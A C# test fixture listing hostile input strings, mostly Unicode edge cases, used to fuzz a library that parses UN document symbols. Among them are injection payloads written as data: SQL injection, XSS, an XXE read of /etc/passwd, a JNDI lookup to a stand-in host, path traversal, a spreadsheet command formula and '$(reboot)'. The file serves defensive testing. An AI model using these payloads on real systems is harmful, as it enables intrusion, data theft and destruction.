using System.Globalization;
using System.Text;

namespace Untoc.Model.Tests;

/// <summary>A text that harms careless readers.</summary>
/// <param name="Category">How it does so.</param>
/// <param name="Text">The text.</param>
public sealed record HostileString(string Category, string Text)
{
    /// <summary>The category and the text in printable ASCII, as far as 80 characters of it go.</summary>
    public override string ToString()
    {
        var shown = new StringBuilder($"{Category}: ");
        foreach (char c in Text.AsSpan(0, Math.Min(Text.Length, 80)))
            shown.Append(c is >= ' ' and <= '~' ? c.ToString() : string.Create(CultureInfo.InvariantCulture, $"\\u{(int)c:x4}"));
        return Text.Length > 80 ? string.Create(CultureInfo.InvariantCulture, $"{shown}... ({Text.Length} characters)") : shown.ToString();
    }
}

/// <summary>Texts that harm careless readers, each once, to be put through every way that a text has into the library.</summary>
/// <remarks>Not all are refused everywhere: <c>007</c> is a part of a symbol, and a name may be any text.</remarks>
public static class HostileStrings
{
    public static IReadOnlyList<HostileString> All { get; } = [.. Listed().DistinctBy(one => one.Text)];

    private static HostileString[] Listed() =>
    [
        .. Of("empty and blank", "", " ", "  ", "\t", " \t ", "\r\n"),
        .. Inside("control character", [.. Range(0x00, 0x1F), .. Range(0x7F, 0x9F)]),
        .. Of("control character", "\0", "\0\0\0\0", "WG.4\0", "\0WG.4", "CTOC/COP/2024/1\0.png", "note\0", "7/1\0", "\u001A", "\u0004", "\b\b\b\b7/1"),
        .. Inside("line end", [0x2028, 0x2029]),
        .. Of("line end", "WG.4\n", "WG.4\r", "WG.4\r\n", "\nWG.4", "7\n/1", "CTOC/COP\n/2024/1", "note\u0085", "note\u2028", "note\u2029", "en\n", "12\n", "resolution\n7/1"),
        .. Inside("bidirectional control", [0x061C, .. Range(0x200E, 0x200F), .. Range(0x202A, 0x202E), .. Range(0x2066, 0x2069)]),
        .. Of("bidirectional control", "\u202E1/4202/POC/COTC", "CTOC/COP/\u202E4202\u202C/1", "\u2066WG.4\u2069", "\u202A\u202B\u202D\u202E\u202C"),
        .. Inside("invisible", [0x00AD, 0x034F, 0x115F, 0x1160, 0x17B4, 0x17B5, 0x180B, 0x180E, .. Range(0x200B, 0x200D), .. Range(0x2060, 0x2064), .. Range(0x206A, 0x206F), 0x2800, 0x3164, 0xFEFF, 0xFFA0, .. Range(0xFFF9, 0xFFFC), 0x1D173, 0xE0001, 0xE0020, 0xE007F]),
        .. Inside("blank of another kind", [0x00A0, 0x1680, .. Range(0x2000, 0x200A), 0x202F, 0x205F, 0x3000]),
        .. Of("blank of another kind", " WG.4", "WG.4 ", "\tWG.4", "\u00A0WG.4", "WG.4\u3000", "resolution\u00A07/1", "resolution\t7/1", "A/80/6\u00A0(Sect. 16)", "working\u2003group WG.4", "convention,\u202Farticle 32"),
        .. Of("byte order mark", "\uFEFF", "\uFEFFWG.4", "\uFEFFCTOC/COP/2024/1", "\uFEFF{}", "\uFFFEW\0G\0", "ï»¿WG.4", "WG.4\uFEFF"),
        .. Of("homoglyph", "СТОС/СОР/2024/1", "ϹΤΟϹ/ϹΟΡ/2024/1", "ᏟᎢOC/COP/2024/1", "𝐂𝐓𝐎𝐂/𝐂𝐎𝐏/2024/1", "ℂ𝕋𝕆ℂ/COP/2024/1", "ⒸⓉⓄⒸ/COP/2024/1", "🅲TOC/COP/2024/1", "ᴄᴛᴏᴄ/ᴄᴏᴘ/2024/1", "WԌ.4", "ԜG.4", "nоte", "nοte", "cοnvention", "resоlution 7/1", "еn", "eո", "zհ", "l2", "I2", "O", "WG.Ⅳ", "Ⅶ/Ⅰ"),
        .. Of("homoglyph of a slash", "7\u20441", "7\u22151", "7\u29F81", "7\u25711", "7\u33091", "7\\1", "7\u00F71", "CTOC\u2215COP\u22152024\u22151", "WG.4\u204413", "½", "⅐"),
        .. Of("homoglyph of a hyphen", "a\u2010b", "a\u2011b", "a\u2012b", "a\u2013b", "a\u2014b", "a\u2015b", "a\u2212b", "a\u00ADb-c", "a\uFE58b", "a\uFE63b", "a\u058Ab", "a\u30FCb", "a\u4E00b", "A/RES/S\u201130/1", "E/CN.7/1\u2013E/CN.15/1"),
        .. Of("homoglyph of a full stop", "WG\u20244", "WG\u00B74", "WG\u30024", "WG\uFF614", "WG\u06D44", "WG\uA4F84", "WG,4", "WG:4"),
        .. Of("homoglyph of a bracket or an asterisk", "A/RES/217\uFF08III\uFF09", "A/RES/217\u207DIII\u207E", "A/RES/217\u2768III\u2769", "A/RES/217[III]", "CTOC/COP/2004/6\u2217", "CTOC/COP/2004/6\uFF0A", "CTOC/COP/2004/6\u204E", "CTOC/COP/2004/6\u066D", "CTOC/COP/2004/6\u2731"),
        .. Of("fullwidth", "ＣＴＯＣ／ＣＯＰ／２０２４／１", "CTOC／COP/2024/1", "ＷＧ．４", "WG.４", "１２", "７／１", "ｎｏｔｅ", "ｅｎ", "ｒｅｓｏｌｕｔｉｏｎ\u3000７／１", "ｃｏｎｖｅｎｔｉｏｎ"),
        .. Digits("other digit", [0x0664, 0x06F4, 0x07C4, 0x096A, 0x09EA, 0x0A6A, 0x0AEA, 0x0B6A, 0x0BEA, 0x0C6A, 0x0CEA, 0x0D6A, 0x0DEA, 0x0E54, 0x0ED4, 0x0F24, 0x1044, 0x1094, 0x17E4, 0x1814, 0x194A, 0x19D4, 0x1B54, 0x1BB4, 0x1C44, 0x1C54, 0xA624, 0xA8D4, 0xA904, 0xA9D4, 0xAA54, 0xABF4, 0x104A4, 0x1106A, 0x1D7D2, 0x1D7DC, 0x1E954]),
        .. Of("other digit", "²", "7/¹", "WG.⁴", "WG.₄", "④", "⑷", "四", "七/一", "〇", "十二", "፬", "௧௨", "ⅩⅡ", "１２", "\u0667/\u0661", "WG.\u0664/\u0661\u0663"),
        .. Of("combining", "\u0301", "e\u0301n", "WG\u0338.4", "7\u0338/1", "12\u20E3", "note\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308", "A\u030A/RES/55/25", "CTOC/COP\uFE0F/2024/1", "7\uFE0F\u20E3/1", "WG.4\u0489", "Ａ\u3099", "\u0E33\u0E33\u0E33", "n\u0303ote", "ṅ\u0323ote"),
        .. Of("half of a surrogate pair", "\ud800", "\udfff", "a\ud800", "\ud800a", "a\udc00", "\udc00a", "\udc00\ud800", "\ud800\ud800", "\udbff\ue000", "WG.\ud835", "7/\udfd9", "CTOC/COP/\ud83d/1", "A/1\ud83d", "\ud83d\ude00\ud83d", "note\udbff"),
        .. Of("surrogate pair", "\U0001F600", "WG.\U0001F600", "CTOC/COP/\U0001F600/1", "\U0001F468\u200D\U0001F469\u200D\U0001F467", "\U0001F1FA\U0001F1F3", "\U0001F3F4\U000E0067\U000E0062\U000E007F", "\U00020000", "\U0001D7DC/\U0001D7D9", "\U0001F44D\U0001F3FD"),
        .. Inside("noncharacter", [.. Range(0xFDD0, 0xFDD3), 0xFDEF, 0xFFFE, 0xFFFF, 0x1FFFE, 0x1FFFF, 0x2FFFE, 0xFFFFE, 0x10FFFE, 0x10FFFF]),
        .. Inside("private use or unassigned", [0xE000, 0xF8FF, 0xF0000, 0x10FFFD, 0x0378, 0x05FF, 0xE0080, 0x2FE0]),
        .. Of("terminal escape", "\u001B[31mWG.4\u001B[0m", "\u001B[2J\u001B[H", "\u001B]0;owned\u0007", "\u001B]8;;http://example.org\u0007link\u001B]8;;\u0007", "\u009B31mWG.4", "\u001BP+q544e\u001B\\", "\u001B[6n", "\u001B[1A\u001B[2K7/1", "\u001Bc", "\u0007\u0007\u0007"),
        .. Of("log line", "WG.4\r\n2024-06-24 00:00:00 INFO admin logged in", "WG.4\nERROR disk full", "7/1\u2028WARN", "\n\n\n\n", "WG.4%0d%0aSet-Cookie: a=b", "note\r\n\r\n<html>", "a\vb\fc", "x\u0085y"),
        .. Of("format directive", "%s", "%s%s%s%n%n%n", "%x%x%x%p", "%99999999d", "{0}", "{0}{1}{2}", "{", "}", "{{}}", "{0:D999999999}", "{0,2147483647}", "{Message}", "{@Record}", "${7*7}", "{{7*7}}", "#{7*7}", "<%= 7*7 %>", "$(reboot)", "`reboot`", "$HOME", "%PATH%", "!important", "\\x41\\u0041"),
        .. Of("look-up", "${jndi:ldap://example.org/a}", "${${lower:j}ndi:rmi://example.org}", "${env:PATH}", "$!{x}", "@{x}"),
        .. Of("query", "' OR '1'='1", "'; DROP TABLE documents; --", "1; SELECT 1", "\" OR \"\"=\"", "admin'--", "*)(uid=*))(|(uid=*", "' or count(/*)=1 or 'a'='b", "{\"$gt\":\"\"}", "[$ne]=1", "1/**/UNION/**/SELECT"),
        .. Of("markup", "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "<b>WG.4", "&lt;&amp;&#0;", "]]>", "<!--", "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>", "javascript:alert(1)", "[a](javascript:alert(1))", "![](x)", "|a|b|", "```", "\\input{x}"),
        .. Of("path", "../../etc/passwd", "..\\..\\windows\\win.ini", "A/../../etc/passwd", "CTOC/COP/../../1", "/etc/passwd", "C:\\", "\\\\host\\share", "file:///etc/passwd", "CON", "NUL.txt", "a:b", "~root", "%2e%2e%2f", "..%c0%af", ".", "..", "A/./1", "//A/1", "A//1"),
        .. Of("formula", "=1+1", "+1+1", "-1+1", "@SUM(1)", "=cmd|' /C calc'!A0", "\t=1", "=HYPERLINK(\"http://example.org\")", "A/1,=1+1", ";=1"),
        .. Of("JSON", "\"", "\\", "\\\"", "\",\"x\":\"", "{\"a\":1}", "[", "]", "null", "true", "NaN", "Infinity", "undefined", "\\u0000", "\\ud800", "//", "/* */", "__proto__", "constructor", "$type", "$id", "$ref", "#/info"),
        .. Of("pattern", "(a+)+$", "^(([a-z])+.)+[A-Z]([a-z])+$", "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!", ".*", "[", "\\", "(?<x>", "A/((((((((((", "A/))))))))))", "A/----------!"),
        .. Of("number too large", "2147483647", "2147483648", "4294967297", "9223372036854775808", "18446744073709551616", "340282366920938463463374607431768211456", "1000000000", "WG.2147483648", "WG.4294967300", "7/4294967297", "4294967303/1", "WG.4/4294967309", "convention, article 4294967328", "convention, article 32(4294967297)", "CTOC/COP/4294969320/1", "CTOC/COP/2024/4294967297", "CTOC/COP/2024/1/Rev.4294967297", "1e9", "1E400", "0x0C", "1_2", "1,2", "1.2", "12.0", "∞", "\u0663\u066B\u0661\u0664"),
        .. Of("sign", "+12", "-12", "−12", "±12", "(12)", "12-", "--12", "+-12", "WG.+4", "WG.-4", "+7/1", "7/+1", "7/-1", "-0", "WG.4/-13", "convention, article +32", "convention, article 32(-1)", "CTOC/COP/-2024/1", "CTOC/COP/+2024/1"),
        .. Of("leading zero", "0", "00", "007", "012", "WG.0", "WG.04", "07/1", "7/01", "0/1", "7/0", "WG.4/013", "WG.04/13", "convention, article 032", "convention, article 0", "convention, article 32(01)", "CTOC/COP/02024/1", "CTOC/COP/2024/01", "CTOC/COP/WG.04/2024/1", "resolution 07/1"),
        .. Of("case", "wg.4", "Wg.4", "wG.4", "ctoc/cop/2024/1", "Resolution 7/1", "RESOLUTION 7/1", "Decision 4/4", "ZH", "En", "Convention", "NOTE", "CONVENTION, ARTICLE 32", "Working Group WG.4", "Conference", "ctoc/cop/wg.4/2024/1", "CTOC/COP/2024/inf/1"),
        .. Of("case in another culture", "resolutıon 7/1", "RESOLUTİON 7/1", "decısion 4/4", "decisi\u0307on 4/4", "ı", "İ", "i\u0307", "I\u0307", "conventıon", "meetıng WG.4/13", "dıscrepancy x", "ſession 12", "ſource note", "reſolution 7/1", "\u212A", "\u212B", "\u2126", "ß", "ẞ", "ς", "Σ", "ŉ", "ǰ", "ΐ", "Ǆ", "ǅ"),
        .. Of("culture", "co\u00ADop", "co-op", "coop", "WG\u200B.4", "aa-b", "ch-a", "lj", "Å/RES/55/25", "æ", "oe", "Ｚh", "12\u066B0", "12\u066C000", "12\u00A0000", "12\u202F000", "12'000", "๑๒", "२/३", "12\u200F", "\u200E-12", "\u221212"),
        .. Of("ligature or compatibility form", "ﬁ", "ﬃ", "ﬆ", "Ĳ", "№ 7/1", "℅", "㏂", "㎏", "℡", "ŀ", "\uFDFA", "㍿", "𝟕/𝟏", "ᵂᴳ.4", "ｗｇ.4", "Ꮤ", "a\u037A", "ⅯⅯⅩⅩⅣ"),
        .. Of("right to left", "\u0645\u0624\u062A\u0645\u0631", "WG.\u0664", "\u0642\u0631\u0627\u0631 \u0667/\u0661", "\u05D4\u05D7\u05DC\u05D8\u05D4 7/1", "\u05D0/1", "7/1\u05D0", "CTOC/COP/\u0662\u0660\u0662\u0664/\u0661", "\u05C1", "\u0710/1", "\U0001E900/1"),
        .. Of("almost a key", "WG", "WG.", "WG4", "WG..4", "WG.4.", "WG.4/", "/13", "7", "7/", "/1", "7/1/1", "7//1", "7-1", "resolution", "resolution ", "resolution  7/1", "resolution7/1", "decision resolution 7/1", "document ", "document  A/1", "document A", "conference ", "conference 1", "treaty", "treaty Convention", "session 012", "working group", "working groupWG.4", "meeting WG.4", "source Note", "discrepancy -x", ", article 1", "convention, article ", "convention, article 32(", "convention, article 32()", "convention, article 32(1))", "convention,article 32", "convention, article 32, article 32", "-", "--", "a-", "-a", "a--b", "a_b", "a.b", "CTOC", "CTOC/", "/CTOC/COP", "CTOC//COP", "CTOC/COP/2024/1**", "*", "*/1", "CTOC*/COP", "A/ 1", "A /1", "A/1 ", "A/()", "A/(()", "A/(a", "A/a)", "A/(a/b)", "A/( a)"),
        .. Of("long", new string('a', 128), new string('a', 129), new string('a', 10_000), "A/" + new string('1', 126), "A/" + new string('1', 127), "A/" + new string('1', 100_000), new string('/', 1_000), new string('(', 1_000), new string('-', 1_000), new string('9', 10_000), new string('0', 10_000), new string('\0', 1_000), new string('\u202E', 1_000), new string('\ud800', 1_000), new string('\n', 64), new string('\u0301', 1_000), new string('"', 1_000), new string('\\', 1_000), new string('\uFFFF', 63), new string('中', 1_000)),
        .. Of("long", "WG." + new string('9', 10_000), new string('9', 5_000) + "/" + new string('9', 5_000), "resolution " + new string('7', 10_000), "document " + new string('A', 10_000), "document A/" + new string('\u0007', 10_000), "convention, article " + new string('(', 10_000), string.Concat(Enumerable.Repeat(", article ", 1_000)), string.Concat(Enumerable.Repeat("a-", 10_000)), string.Concat(Enumerable.Repeat("A/1-", 10_000)), string.Concat(Enumerable.Repeat("\ud83d\ude00", 1_000)), new string('x', 1 << 20)),
    ];

    private static IEnumerable<HostileString> Of(string category, params string[] texts) => texts.Select(text => new HostileString(category, text));

    // In a text that would be a part of a symbol and an identifier without it.
    private static IEnumerable<HostileString> Inside(string category, int[] scalars) =>
        scalars.Select(scalar => new HostileString(category, $"a{char.ConvertFromUtf32(scalar)}b"));

    private static IEnumerable<HostileString> Digits(string category, int[] fours) =>
        fours.Select(four => new HostileString(category, $"WG.{char.ConvertFromUtf32(four)}"));

    private static IEnumerable<int> Range(int first, int last) => Enumerable.Range(first, last - first + 1);
}
